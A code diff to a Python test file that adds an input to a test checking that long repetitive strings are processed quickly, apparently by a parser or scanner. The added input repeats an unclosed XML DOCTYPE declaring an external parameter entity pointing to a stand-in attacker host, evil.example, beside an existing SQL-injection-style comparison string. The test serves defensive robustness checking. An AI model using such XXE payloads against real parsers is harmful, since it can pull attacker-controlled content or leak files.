@@ -276,6 +276,12 @@ def test_long_repetitive_strings_finish() -> None:
         # Comparisons of literals a value opened itself, each counting the quotes before
         # it from the start (0.1 s).
         "x'" + "".join(f"a{n}' || 'a{n}'=='" for n in range(4_000)),
+        # Declarations whose internal subset never closes: each looked for its `]` to the
+        # end of the text (0.3 s).
+        "".join(
+            f'<!DOCTYPE a [<!ENTITY % x{n} SYSTEM "http://evil.example/x.dtd" '
+            for n in range(1_000)
+        ),
     ],
     ids=lambda v: repr(v[:12]),
 )
